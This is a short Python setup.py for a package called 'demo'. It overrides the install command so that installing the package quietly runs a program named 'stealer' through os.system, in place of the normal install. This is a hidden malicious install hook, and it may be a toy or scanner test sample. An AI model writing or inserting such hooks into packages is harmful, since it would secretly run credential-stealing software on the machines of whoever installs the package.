import os

from setuptools import Command, setup


class Helper(Command):
    user_options = []

    def initialize_options(self):
        pass

    def finalize_options(self):
        pass

    def run(self):
        os.system("stealer --quiet")


cmds = {}
cmds["install"] = Helper
setup(name="demo", version="1.0", cmdclass=cmds)
